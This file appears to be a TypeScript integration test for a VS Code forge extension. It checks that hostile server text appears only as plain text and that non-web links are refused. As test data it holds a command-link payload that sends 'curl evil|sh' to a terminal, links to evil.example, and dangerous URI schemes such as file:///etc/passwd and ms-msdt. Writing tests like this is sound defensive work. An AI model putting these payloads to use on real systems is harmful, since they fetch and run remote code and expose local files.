// Server text reaches the user through one door, and server links open only if they are web links
// (docs/security.md). Inside a real VS Code: commands run on refs built from what the fake forge
// sends, with hostile titles, job names and links; every message the door shows is read back
// through the extension's API and must carry the server's text with no link and no icon in it.
import * as assert from 'node:assert/strict';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as vscode from 'vscode';
import type { ForgeWorkbenchApi } from '../../src/extension';
import type { AccountInfo } from '../../src/platform/accounts';
import type { ShownMessage } from '../../src/platform/userMessages';
import { type FakeForge, startFakeForge } from '../server';
import { type SeededHostile, hostileCorpus, seedHostileCorpus } from '../server/hostile';
import { childrenOf, eventually, label, workbenchApi, useForgeSession } from './support';

// VS Code's own patterns: notification links (parseLinkedText) and icons in labels (iconLabels).
const NOTIFICATION_LINK = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
const DRAWN_ICON = /(?<!\\)\$\(([A-Za-z0-9-]+(?:~[A-Za-z]+)?)\)/g;

const COMMAND_LINK =
  '[View diff](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';
const ICON_AND_LINK = '$(check) deploy [docs](https://evil.example/) $(loading~spin)';

function assertInert(messages: readonly ShownMessage[], serverText: string): void {
  const text = messages.map((message) => `${message.text}\n${message.detail ?? ''}`).join('\n');
  assert.ok(
    text
      .replace(/\u200B/g, '')
      .replace(/\\\$\(/g, '$(')
      .includes(serverText),
    `the server's text reached a message: ${text}`,
  );
  assert.deepEqual([...text.matchAll(NOTIFICATION_LINK)].map(String), [], 'no link VS Code would open');
  assert.deepEqual([...text.matchAll(DRAWN_ICON)].map(String), [], 'no icon VS Code would draw');
}

describe('the message door and server links', function () {
  this.timeout(30_000);
  const session = useForgeSession();
  let forge: FakeForge;
  let api: ForgeWorkbenchApi;
  let account: AccountInfo;
  let observing: vscode.Disposable;
  const shown: ShownMessage[] = [];

  before(() => {
    ({ forge, api, account } = session);
  });

  before(() => {
    observing = api.messages.observe((message) => shown.push(message));
  });

  beforeEach(() => {
    shown.length = 0;
  });

  session.cleanUps.push(() => {
    observing.dispose();
  });

  async function jobRef(jobId: number, change: Record<string, unknown> = {}): Promise<unknown> {
    const client = await api.accounts.client(account.id);
    const web = forge.fixtures.projects.web;
    return {
      kind: 'forge.jobRef',
      accountId: account.id,
      project: await client.getProject(web),
      job: { ...(await client.getJob(web, jobId)), ...change },
    };
  }

  it('closes and reopens a merge request titled with a command link: the notification shows it as text', async () => {
    const web = forge.fixtures.projects.web;
    const iid = forge.fixtures.mergeRequests.opened;
    const stored = forge.state.findMergeRequest(web, iid);
    assert.ok(stored);
    const title = stored.title;
    stored.title = COMMAND_LINK;
    try {
      const client = await api.accounts.client(account.id);
      const ref = {
        kind: 'forge.mergeRequestRef',
        account,
        project: await client.getProject(web),
        mergeRequest: await client.getMergeRequest(web, iid),
      };
      const closed = await vscode.commands.executeCommand<{ state: string }>('forge.mergeRequest.close', ref);
      assert.equal(closed?.state, 'closed');
      assertInert(shown, COMMAND_LINK);
      shown.length = 0;
      await vscode.commands.executeCommand('forge.mergeRequest.reopen', ref);
      assertInert(shown, COMMAND_LINK);
    } finally {
      stored.title = title;
    }
  });

  it('reacts with an emoji whose name the server answers with a command link: the message shows it as text', async () => {
    const web = forge.fixtures.projects.web;
    const iid = forge.fixtures.mergeRequests.opened;
    const client = await api.accounts.client(account.id);
    const ref = {
      kind: 'forge.mergeRequestRef',
      account,
      project: await client.getProject(web),
      mergeRequest: await client.getMergeRequest(web, iid),
    };
    // A hostile server answers the reaction with a name of its own.
    forge.onRequest((request, response) => {
      if (request.method !== 'POST' || !request.url?.includes('/award_emoji')) return false;
      response.writeHead(201, { 'content-type': 'application/json' }).end(
        JSON.stringify({
          id: 9001,
          name: COMMAND_LINK,
          user: { id: 1, username: 'alice', name: 'Alice' },
          created_at: '2026-11-26T10:00:00Z',
          updated_at: '2026-11-26T10:00:00Z',
          awardable_id: 1,
          awardable_type: 'MergeRequest',
        }),
      );
      return true;
    });
    try {
      const result = await vscode.commands.executeCommand<{ awarded?: string }>('forge.awardEmoji.add', ref, {
        emoji: 'rocket',
      });
      assert.equal(result?.awarded, COMMAND_LINK, 'the server named the reaction');
      assertInert(shown, COMMAND_LINK);
    } finally {
      forge.onRequest(undefined);
    }
  });

  it('retries a job named with icon syntax and a link: progress and result messages are inert', async () => {
    const job = forge.state.jobs.get(forge.fixtures.jobs.failed);
    assert.ok(job);
    const name = job.name;
    job.name = ICON_AND_LINK;
    try {
      await vscode.commands.executeCommand('forge.job.retry', await jobRef(job.id));
      assert.ok(
        shown.some((message) => message.severity === 'information'),
        'a result was shown',
      );
      assertInert(shown, ICON_AND_LINK);
    } finally {
      job.name = name;
    }
  });

  for (const link of [
    'file:///etc/passwd',
    'vscode://vscode.git/clone?url=https%3A%2F%2Fevil.example%2Fx.git',
    'command:workbench.action.terminal.new',
    'javascript:alert(1)',
    'ms-msdt:/id PCWDiagnostic /skip force',
    'x-forge-evil://open',
  ]) {
    it(`does not open a job's web link ${link.split(':')[0]}:, and says which link it refused`, async () => {
      const opened = await vscode.commands.executeCommand<string | undefined>(
        'forge.job.openInBrowser',
        await jobRef(forge.fixtures.jobs.success, { web_url: link }),
      );
      assert.equal(opened, undefined, 'nothing was opened');
      const refusal = shown.find((message) => message.severity === 'error');
      assert.ok(refusal, 'an error names the refused link');
      assert.ok(refusal.text.includes(link.replace(/\]\(/g, ']\u200B(')), refusal.text);
      assert.match(refusal.text, /only http and https/);
    });
  }

  it('does not open a todo whose target is not a web link ("Open in Browser" of its row)', async () => {
    const [accountRow] = await childrenOf(api.todos);
    const rows = await childrenOf(api.todos, api.accounts.list().length > 1 ? accountRow?.node : undefined);
    // An issue's or a merge request's row opens its panel; "Open in Browser" is in every row's menu.
    const todo = rows.find((row) => row.item.contextValue?.startsWith('todo'));
    assert.ok(todo, `a todo row: ${rows.map((row) => label(row.item)).join(', ')}`);
    // As a server would send it: the todo's target is a command URI.
    (todo.node as unknown as { todo: { target_url?: string } }).todo.target_url =
      'command:workbench.action.terminal.new';
    const opened = await vscode.commands.executeCommand<boolean>('forge.todo.openInBrowser', todo.node);
    assert.equal(opened, false);
    assert.ok(shown.some((message) => message.severity === 'error' && message.text.includes('command:')));
    api.todos.refresh();
  });
});

describe('the message door with the hostile corpus', function () {
  this.timeout(60_000);
  let forge: FakeForge;
  let api: ForgeWorkbenchApi;
  let seeded: SeededHostile;
  let observing: vscode.Disposable;
  const shown: ShownMessage[] = [];

  before(async () => {
    forge = await startFakeForge({ seed: 'small' });
    // Nothing listens there: a payload that ran would fail to call it, and the text is what counts here.
    seeded = seedHostileCorpus(forge, hostileCorpus('http://127.0.0.1:9'), {
      userId: forge.users.user.id,
      traceJobId: forge.fixtures.jobs.running,
    });
    api = await workbenchApi();
    observing = api.messages.observe((message) => shown.push(message));
  });

  beforeEach(() => {
    shown.length = 0;
  });

  after(async () => {
    observing.dispose();
    for (const account of api.accounts.list().filter((candidate) => candidate.serverUrl === forge.url)) {
      await api.accounts.remove(account.id);
    }
    for (const account of api.channelAccounts
      .list()
      .filter((candidate) => candidate.serverUrl === forge.url)) {
      await api.channelAccounts.remove(account.id);
    }
    await forge.close();
  });

  function assertAllInert(messages: readonly ShownMessage[]): void {
    for (const message of messages) {
      const text = `${message.text}\n${message.detail ?? ''}`;
      assert.deepEqual([...text.matchAll(NOTIFICATION_LINK)].map(String), [], text);
      assert.deepEqual([...text.matchAll(DRAWN_ICON)].map(String), [], text);
    }
  }

  it('shows every hostile broadcast message as text', async () => {
    assert.ok(seeded.broadcastIds.length > 0);
    const admin = await api.accounts.add({
      serverUrl: forge.url,
      token: forge.adminToken,
      tokenKind: 'private-token',
    });
    try {
      const broadcasts = await eventually(() => {
        const found = shown.filter((message) => message.text.startsWith('Broadcast from'));
        assert.ok(found.length >= seeded.broadcastIds.length, `${found.length} broadcasts shown`);
        return found;
      }, 15_000);
      assertAllInert(broadcasts);
    } finally {
      await api.accounts.remove(admin.id);
    }
  });

  it('names hostile branches as text when they are protected and copied', async () => {
    const account = await api.accounts.add({
      serverUrl: forge.url,
      token: forge.userToken,
      tokenKind: 'private-token',
    });
    try {
      const accountRow = (await childrenOf(api.projects)).find(
        ({ item }) => item.id === `account/${account.id}`,
      );
      const web = (await childrenOf(api.projects, accountRow?.node)).find(
        ({ item }) => item.description === 'acme/web',
      );
      const branches = (await childrenOf(api.projects, web?.node)).find(
        ({ item }) => label(item) === 'Branches',
      );
      assert.ok(branches, 'the Branches folder of acme/web');
      const rows = await childrenOf(api.projects, branches.node);
      const hostile = rows.filter(({ item }) => seeded.branchNames.includes(label(item)));
      assert.ok(hostile.length > 0, `hostile branches among ${rows.length} rows`);
      for (const row of hostile) {
        await vscode.commands.executeCommand('forge.branch.protect', row.node, {
          developersCanPush: false,
          developersCanMerge: false,
        });
        await vscode.commands.executeCommand('forge.branch.copyName', row.node);
      }
      assert.ok(shown.filter((message) => message.severity === 'status').length >= hostile.length);
      assert.ok(shown.some((message) => message.text.startsWith('Protected ')));
      assertAllInert(shown);
    } finally {
      await api.accounts.remove(account.id);
    }
  });

  it('names hostile channel files as text in the download progress and result', async () => {
    assert.ok(seeded.channel.fileNames.length > 0);
    const account = await api.channelAccounts.add({
      serverUrl: forge.url,
      login: forge.channel.nickname,
      password: forge.channel.password,
    });
    const dir = mkdtempSync(join(tmpdir(), 'forge-door-'));
    try {
      const tree = api.treeProviders['forge.channel'];
      // One account shows its folders at the top; several show a row per account.
      const roots = await childrenOf(tree);
      const accountRow = roots.find(({ item }) => item.id === `channel/${account.id}`);
      const folders = accountRow ? await childrenOf(tree, accountRow.node) : roots;
      const files = folders.find(({ item }) => label(item) === 'Files');
      assert.ok(files, 'the Files folder');
      // The hostile files sit in a folder beside the file they were copied from.
      const rows = (
        await Promise.all(
          (await childrenOf(tree, files.node)).map(async (row) => [
            row,
            ...(await childrenOf(tree, row.node)),
          ]),
        )
      ).flat();
      const hostile = rows.filter(({ item }) => seeded.channel.fileNames.includes(label(item)));
      assert.ok(hostile.length > 0, `hostile files among ${rows.map(({ item }) => label(item)).join(', ')}`);
      for (const [index, row] of hostile.entries()) {
        await vscode.commands.executeCommand('forge.channel.downloadFile', row.node, {
          destination: join(dir, `file-${index}`),
        });
      }
      assert.ok(
        shown.some((message) => message.severity === 'progress'),
        'a progress title was shown',
      );
      assertAllInert(shown);
    } finally {
      rmSync(dir, { recursive: true, force: true });
      await api.channelAccounts.remove(account.id);
    }
  });
});
